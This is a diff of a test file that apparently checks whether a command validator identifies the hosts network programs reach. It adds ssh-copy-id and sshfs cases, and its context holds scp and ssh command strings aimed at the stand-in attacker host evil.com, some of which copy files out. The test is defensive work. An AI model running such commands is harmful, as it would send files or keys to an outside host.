@@ -54,6 +54,8 @@ describe('network programs reach the hosts they name (G14c)', () => {
     ['ssh -W evil.com:22 allowed.com', ['allowed.com', 'evil.com']],
     ['ssh ssh://u@evil.com:22', ['ssh://u@evil.com:22']],
     ['slogin evil.com', ['evil.com']],
+    ['ssh-copy-id -i key.pub user@evil.com', ['evil.com']],
+    ['sshfs evil.com:/srv mnt', ['evil.com']],
     ['scp x evil.com:', ['evil.com']],
     ['scp -P 2222 x user@evil.com:/tmp/', ['evil.com']],
     ['scp evil.com:/etc/x ./x', ['evil.com']],
